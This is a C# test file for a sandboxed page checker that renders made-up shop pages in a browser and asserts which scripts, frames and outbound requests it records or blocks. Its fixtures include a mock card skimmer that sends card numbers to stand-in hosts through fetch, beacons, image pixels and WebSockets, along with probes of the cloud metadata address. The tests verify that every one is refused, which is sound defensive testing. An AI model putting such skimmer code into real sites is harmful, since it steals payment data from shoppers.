using System.Diagnostics;
using System.Net;
using System.Text;
using Shouldly;
using Weir.Server.Pages;
using Weir.Server.Pages.Fetching;
using Weir.Server.Pages.Reading;
using Weir.Server.Pages.Rendering;
using Xunit;

namespace Weir.Server.Tests.Pages.Rendering;

/// <summary>Made pages in a browser that is installed; without one the tests are skipped.</summary>
public sealed class RenderedCheckTests
{
    private const string JavaScript = "text/javascript", Html = "text/html";

    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    [Fact]
    public async Task Check_LoaderThatInsertsAndEvaluates_TellsWhatTheHtmlDoesNotHave()
    {
        await using MadeShop shop = await MadeShop.StartAsync(
            "<title>Shop</title><script src=/loader.js></script><script>\r\nvar written = 1;\r\n</script><body onload=\"var handled = 1\">",
            ("/loader.js", JavaScript, """
                function add(set) { var s = document.createElement('script'); set(s); document.head.appendChild(s); }
                add(s => s.src = '/inserted.js');
                add(s => s.src = '/moved.js');
                add(s => s.src = '/missing.js');
                add(s => s.text = 'var putIn = 1;');
                eval("var evaluated = 1; //# sourceURL=https://far.example/forged.js");
                debugger;
                fetch('/code.json').then(r => r.json()).then(j => { new Function(j.code)(); document.cookie = 'made=secret'; });
                var f = document.createElement('iframe'); f.src = '/frame.html'; f.setAttribute('sandbox', 'allow-scripts'); document.documentElement.appendChild(f);
                new Worker('/worker.js');
                """),
            ("/inserted.js", JavaScript, "var inserted = 1;"),
            ("/moved.js", "redirect", "/target.js"),
            ("/target.js", JavaScript, "var target = 1;"),
            ("/code.json", "application/json", """{"code":"var fromJson = 1;"}"""),
            ("/frame.html", Html, "<script>var inFrame = 1; fetch('/by-frame', { mode: 'no-cors' }); fetch('http://$OTHER/by-frame', { mode: 'no-cors' })</script>"),
            ("/worker.js", JavaScript, "var inWorker = 1; eval('var inWorkerEvaluated = 1'); fetch('/by-worker'); fetch('http://$OTHER/by-worker', { mode: 'no-cors' })"));

        PageReport report = await CheckAsync(shop.Address);

        ScriptReport[] made = [.. report.Scripts.Where(script => script.Kind == ScriptKind.RunTime)];
        CodeOf(made, shop.Address + "inserted.js").ShouldBe("var inserted = 1;");
        made.Single(script => script.Url == shop.Address + "moved.js").FinalUrl.ShouldBe(new Uri(shop.Address, "/target.js"));
        CodeOf(made, shop.Address + "moved.js").ShouldBe("var target = 1;");
        made.Single(script => script.Url == shop.Address + "missing.js").Error.ShouldNotBeNull().ShouldContain("status 404");
        string[] codes = [.. made.Where(script => script.Code is not null).Select(script => Encoding.UTF8.GetString(script.Code!))];
        codes.ShouldContain("var putIn = 1;");
        codes.ShouldContain(code => code.StartsWith("var evaluated = 1;"));
        codes.ShouldContain(code => code.Contains("var fromJson = 1;"));
        codes.ShouldContain(code => code.StartsWith("var inFrame = 1;"));
        codes.ShouldContain("var inWorkerEvaluated = 1");
        codes.ShouldNotContain(code => code.Contains("written") || code.Contains("handled") || code.Contains("createElement"));
        made.ShouldNotContain(script => script.Url == "https://far.example/forged.js");
        report.Frames.ShouldContain(frame => frame.Url == shop.Address + "frame.html");
        report.Connections.ShouldContain(link => link.Kind == "request" && link.Url == shop.Address + "code.json" && link.Line == 0 && link.Party == Party.First && link.Refused == null);
        report.Connections.ShouldNotContain(link => link.Url == shop.Address + "worker.js");
        report.Cookies.Select(cookie => cookie.Name).ShouldBe(["first", "made"]);
        shop.Elsewhere.ShouldBeEmpty();
        shop.Asked.ShouldContain("GET /by-worker");
        shop.Asked.ShouldContain("GET /by-frame");
        shop.Asked.Count(line => line == "GET /").ShouldBe(1, "what was fetched is not fetched again");
        shop.Asked.Count(line => line == "GET /loader.js").ShouldBe(1);
    }

    [Fact]
    public async Task Check_PageThatSends_SendsNothing()
    {
        await using MadeShop shop = await MadeShop.StartAsync(
            """
            <link rel=dns-prefetch href=//far.example><link rel=preconnect href=http://$OTHER><link rel=prefetch href=http://$OTHER/prefetched>
            <form id=f method=post action=/form><input name=card value=4111></form><form id=g action=/away><input name=card value=4111></form>
            <a id=d href=/file.zip download>file</a>
            <script src=/skimmer.js></script>
            """,
            ("/skimmer.js", JavaScript, """
                var x = new XMLHttpRequest(); x.open('POST', '/collect'); x.send('card=4111');
                fetch('/put', { method: 'PUT', body: 'card=4111' }).catch(e => 0);
                fetch('http://$OTHER/collect', { method: 'POST', body: 'card=4111', mode: 'no-cors' }).catch(e => 0);
                fetch('http://$OTHER/get', { mode: 'no-cors' }).catch(e => 0);
                fetch('http://$OTHER/keep', { mode: 'no-cors', keepalive: true }).catch(e => 0);
                fetch('http://169.254.169.254/latest/meta-data/', { mode: 'no-cors' }).catch(e => 0);
                fetch('http://inside.example/', { mode: 'no-cors' }).catch(e => 0);
                fetch('http://[::1]:1/', { mode: 'no-cors' }).catch(e => 0);
                navigator.sendBeacon('/beacon', 'card=4111');
                navigator.sendBeacon('http://$OTHER/beacon', 'card=4111');
                new Image().src = '/pixel.gif?card=4111';
                new Image().src = 'http://$OTHER/pixel.gif?card=4111';
                new WebSocket('ws://' + location.host + '/socket');
                new WebSocket('ws://$OTHER/socket');
                try { new EventSource('/stream'); } catch (e) { }
                try { new WebTransport('https://$UDP/transport').ready.catch(e => 0); } catch (e) { }
                navigator.serviceWorker && navigator.serviceWorker.register('/sw.js').catch(e => 0);
                try { new SharedWorker('/shared.js'); } catch (e) { }
                window.open('/popup');
                try {
                    var p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:$UDP' }, { urls: 'turn:$OTHER?transport=tcp', username: 'u', credential: 'c' }] });
                    p.createDataChannel('d'); p.createOffer().then(o => p.setLocalDescription(o));
                } catch (e) { }
                setTimeout(() => document.getElementById('f').submit(), 200);
                setTimeout(() => document.getElementById('d').click(), 400);
                setTimeout(() => document.getElementById('g').submit(), 600);
                setTimeout(() => fetch('/still-here'), 900);
                """),
            ("/sw.js", JavaScript, "fetch('/by-service-worker'); fetch('http://$OTHER/by-service-worker')"),
            ("/shared.js", JavaScript, "fetch('/by-shared-worker')"),
            ("/file.zip", "application/octet-stream", "PK"));

        PageReport report = await CheckAsync(shop.Address);

        shop.Elsewhere.ShouldBeEmpty();
        shop.Datagrams.ShouldBe(0);
        shop.Asked.ShouldAllBe(line => line.StartsWith("GET "));
        shop.Asked.ShouldNotContain(line => line.Contains("card") || line.Contains("socket") || line.Contains("beacon") || line.Contains("-worker") || line.Contains("popup"));
        shop.Asked.ShouldContain("GET /still-here");
        RefusedOf(report, $"{shop.Address}collect").ShouldBe("POST");
        RefusedOf(report, $"{shop.Address}put").ShouldBe("PUT");
        RefusedOf(report, $"{shop.Address}beacon").ShouldBe("POST");
        RefusedOf(report, $"{shop.Address}form").ShouldBe("POST");
        RefusedOf(report, $"{shop.Address}pixel.gif?card=4111").ShouldBe("Image");
        RefusedOf(report, $"{shop.Address}stream").ShouldBe("EventSource");
        RefusedOf(report, $"{shop.Address}away?card=4111").ShouldBe("it leads away from the page");
        RefusedOf(report, $"ws://{shop.Address.Authority}/socket").ShouldBe("WebSocket");
        RefusedOf(report, $"ws://{shop.Other.Authority}/socket").ShouldBe("WebSocket");
        RefusedOf(report, $"{shop.Other}collect").ShouldBe("POST");
        RefusedOf(report, $"{shop.Other}get").ShouldContain("this machine");
        RefusedOf(report, "http://169.254.169.254/latest/meta-data/").ShouldContain("never asked");
        RefusedOf(report, "http://inside.example/").ShouldContain("a private network");
        RefusedOf(report, $"{shop.Address}sw.js").ShouldBe("service worker");
        RefusedOf(report, $"{shop.Address}popup").ShouldBe("window");
        RefusedOf(report, $"https://{shop.Udp}/transport").ShouldBe("WebTransport");
    }

    [Fact]
    public async Task Check_PrefetchesAndFramesThatAreMade_AreListed()
    {
        await using MadeShop shop = await MadeShop.StartAsync(
            "<link rel=prefetch href=/ahead.css?static=1><script src=/loader.js></script><iframe srcdoc='<p>static'></iframe><iframe></iframe><body>",
            ("/loader.js", JavaScript, """
                function link(rel, href, as) { var l = document.createElement('link'); l.rel = rel; l.setAttribute('as', as); l.href = href; document.head.appendChild(l); }
                link('prefetch', '/ahead.js?card=4111'); link('prefetch', 'http://$OTHER/ahead?card=4111');
                for (const as of ['script', 'document', 'image', 'x']) { link('prefetch', '/as-' + as + '?card=4111', as); }
                link('prefetch', '/loader.js'); link('preload', '/early.css', 'style');
                function frame(set) { var f = document.createElement('iframe'); set(f); document.body.appendChild(f); return f; }
                addEventListener('load', () => {
                frame(f => f.src = '/frame.html?made=1');
                frame(f => f.src = 'http://$OTHER/frame');
                frame(f => f.srcdoc = '<script>var inSrcdoc = 1;<' + '/script>');
                frame(f => f.src = 'data:text/html,<script>var inData = 1;<' + '/script>');
                frame(f => f.src = URL.createObjectURL(new Blob(['<script>var inBlob = 1;<' + '/script>'], { type: 'text/html' })));
                frame(f => 0).contentDocument.write('<script>var inBlank = 1;<' + '/script>');
                var o = document.createElement('object'); o.data = '/object.html'; document.body.appendChild(o);
                var e = document.createElement('embed'); e.src = '/embed.html'; document.body.appendChild(e);
                });
                """),
            ("/ahead.js", JavaScript, "var ahead = 1;"),
            ("/frame.html", Html, "<script>var inFrame = 1;</script><iframe srcdoc='<p>within'></iframe>"),
            ("/object.html", Html, "<script>var inObject = 1;</script>"),
            ("/embed.html", Html, "<script>var inEmbed = 1;</script>"));

        PageReport report = await CheckAsync(shop.Address);

        string shopFrame = $"{shop.Address}frame.html?made=1";
        report.Frames.Select(frame => frame.Url is { } url && url.StartsWith("blob:", StringComparison.Ordinal) ? "blob:" : frame.Url).ShouldBe(
            [null, null, shopFrame, $"{shop.Other}frame", $"{shop.Address}object.html", $"{shop.Address}embed.html", "data:text/html,<script>var inData = 1;</script>", "about:srcdoc", "about:srcdoc", "about:blank", "blob:"], ignoreOrder: true);
        foreach (string ahead in (string[])["ahead.css?static=1", "ahead.js?card=4111", "as-script?card=4111", "as-document?card=4111", "as-image?card=4111", "as-x?card=4111", "loader.js"])
        {
            RefusedOf(report, $"{shop.Address}{ahead}").ShouldBe("Prefetch");
        }

        RefusedOf(report, $"{shop.Other}ahead?card=4111").ShouldBe("Prefetch");
        report.Connections.ShouldContain(link => link.Kind == "prefetch" && link.Url == $"{shop.Address}ahead.css?static=1");
        shop.Asked.ShouldNotContain(line => line.Contains("ahead") || line.Contains("card"));
        shop.Asked.ShouldContain("GET /early.css");
        report.Scripts.ShouldNotContain(script => script.Url != null && script.Url.StartsWith("chrome-error"));
    }

    [Theory]
    [InlineData("<script>var endless = 1; for (;;) { }</script>")]
    [InlineData("<script>setInterval(() => fetch('/again?' + Math.random()), 50); function f() { eval('var made = ' + Math.random()); setTimeout(f, 0) } f()</script>")]
    [InlineData("<script>alert('stop'); onbeforeunload = () => 'stay'; location.reload()</script>")]
    public async Task Check_PageWithoutEnd_EndsInTimeAndLeavesNothing(string page)
    {
        await using MadeShop shop = await MadeShop.StartAsync(page);
        HashSet<string> before = Folders();
        long begin = Stopwatch.GetTimestamp();

        PageReport report = await CheckAsync(shop.Address, seconds: 5);

        Stopwatch.GetElapsedTime(begin).ShouldBeLessThan(TimeSpan.FromSeconds(60));
        report.Notes.ShouldContain(note => note.StartsWith("the page was not quiet after 5 seconds"));
        report.Scripts.ShouldNotBeEmpty();
        Folders().Except(before).ShouldBeEmpty();
    }

    [Fact]
    public async Task Check_Cancelled_LeavesNoProcessAndNoProfile()
    {
        _ = Browser();
        await using MadeShop shop = await MadeShop.StartAsync("<script>setInterval(() => fetch('/again?' + Math.random()), 50)</script>");
        using var stop = CancellationTokenSource.CreateLinkedTokenSource(Cancel);
        HashSet<string> before = Folders();

        Task<PageReport> check = CheckAsync(shop.Address, seconds: 60, cancellation: stop.Token);
        while (!shop.Asked.Any(line => line.StartsWith("GET /again", StringComparison.Ordinal)))
        {
            await Task.Delay(50, Cancel);
        }

        string folder = Folders().Except(before).ShouldHaveSingleItem();
        Processes(folder).ShouldNotBeEmpty();
        await stop.CancelAsync();
        await Should.ThrowAsync<OperationCanceledException>(check);

        Directory.Exists(folder).ShouldBeFalse();
        Processes(folder).ShouldBeEmpty();
    }

    [Fact]
    public async Task Check_ProgramThatIsNoBrowser_SaysSo()
    {
        Assert.SkipWhen(OperatingSystem.IsWindows(), "there is no false");
        await using MadeShop shop = await MadeShop.StartAsync("<p>");
        var check = new RenderedCheck(classifier: null, new PageCheckOptions { AllowLocalPage = true }, "/bin/false");

        (await Should.ThrowAsync<PageException>(check.CheckAsync(shop.Address, progress: null, Cancel))).Message.ShouldContain("ended at once with code 1");
    }

    private static string Browser()
    {
        string? browser = BrowserFinder.Find();
        Assert.SkipWhen(browser is null, $"no browser is installed; looked for {string.Join(", ", BrowserFinder.Names)}");
        return browser!;
    }

    private static async Task<PageReport> CheckAsync(Uri page, int seconds = 20, CancellationToken? cancellation = null)
    {
        var check = new RenderedCheck(classifier: null, new PageCheckOptions
        {
            AllowLocalPage = true,
            Limits = new FetchLimits { Time = TimeSpan.FromSeconds(seconds) },
            Resolve = (_, _) => Task.FromResult<IPAddress[]>([IPAddress.Parse("10.0.0.1")]),
        }, Browser());
        return await check.CheckAsync(page, progress: null, cancellation ?? Cancel);
    }

    private static string CodeOf(ScriptReport[] scripts, string url) => Encoding.UTF8.GetString(scripts.Single(script => script.Url == url).Code!);

    private static string RefusedOf(PageReport report, string url) => report.Connections.First(link => link.Kind == "request" && link.Url == url && link.Refused is not null).Refused!;

    private static HashSet<string> Folders() => [.. Directory.GetDirectories(Path.GetTempPath(), "weir-render-*")];

    /// <summary>Processes that name a folder; known on Linux alone.</summary>
    private static string[] Processes(string folder) => !OperatingSystem.IsLinux() ? [] :
        [.. Directory.GetDirectories("/proc").Where(process => char.IsAsciiDigit(Path.GetFileName(process)[0])).Select(CommandOf).Where(command => command.Contains(folder))];

    private static string CommandOf(string process)
    {
        try
        {
            return File.ReadAllText(Path.Combine(process, "cmdline"));
        }
        catch (Exception e) when (e is IOException or UnauthorizedAccessException)
        {
            return "";
        }
    }
}
